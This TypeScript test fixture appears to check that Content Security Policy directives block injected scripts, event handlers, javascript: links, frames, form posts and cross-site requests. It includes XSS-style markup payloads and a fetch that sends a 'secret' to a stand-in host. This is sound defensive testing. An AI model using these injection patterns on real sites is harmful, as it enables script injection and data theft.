const TRUSTED_TYPES = 'require-trusted-types-for';

/** Injected code, and the directive that blocks it. The code sets `window.ran` if it runs. */
export const scriptInjections: Record<string, { directive: string; inject: () => void }> = {
  'an inline script': {
    directive: TRUSTED_TYPES,
    inject: () => {
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
    },
  },
  'an event handler': {
    directive: TRUSTED_TYPES,
    inject: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.ran = true');
      document.body.append(button);
      button.click();
    },
  },
  'markup as a string': {
    directive: TRUSTED_TYPES,
    inject: () => {
      document.body.innerHTML = '<img src="x" onerror="window.ran = true">';
    },
  },
  'code as a string': {
    directive: TRUSTED_TYPES,
    inject: () => {
      window.setTimeout('window.ran = true');
    },
  },
  'a script of another site': {
    directive: TRUSTED_TYPES,
    inject: () => {
      const script = document.createElement('script');
      script.src = 'https://elsewhere.example/a.js';
      document.body.append(script);
    },
  },
  'a Trusted Types policy': {
    directive: 'trusted-types',
    inject: () => {
      window.trustedTypes!.createPolicy('mine', { createHTML: (html) => html });
    },
  },
  'a javascript: link': {
    directive: 'script-src-elem',
    inject: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.ran=true';
      document.body.append(link);
      link.click();
    },
  },
  'a frame': {
    directive: 'frame-src',
    inject: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://elsewhere.example/';
      document.body.append(frame);
    },
  },
  'a submitted form': {
    directive: 'form-action',
    inject: () => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = 'https://elsewhere.example/';
      document.body.append(form);
      form.submit();
    },
  },
  'a base element': {
    directive: 'base-uri',
    inject: () => {
      const base = document.createElement('base');
      base.href = 'https://elsewhere.example/';
      document.head.append(base);
    },
  },
  'a request to another site': {
    directive: 'connect-src',
    inject: () => void fetch('https://elsewhere.example/?secret').catch(() => undefined),
  },
};

/** Markup that an attacker may inject into a document. */
export const injectedMarkup = [
  '<script>window.ran = true</script>',
  '<script src="https://elsewhere.example/a.js"></script>',
  '<style>main { display: none }</style>',
  '<p style="color: red">Injected</p>',
  '<button onclick="window.ran = true">Injected</button>',
  '<a href="javascript:window.ran = true">Injected</a>',
  '<img alt="" src="https://elsewhere.example/a.png">',
  '<iframe src="https://elsewhere.example/"></iframe>',
  '<object data="https://elsewhere.example/"></object>',
];

/** The directives that block the injected markup. */
export const refusedMarkup = [
  'frame-src',
  'img-src',
  'object-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
];
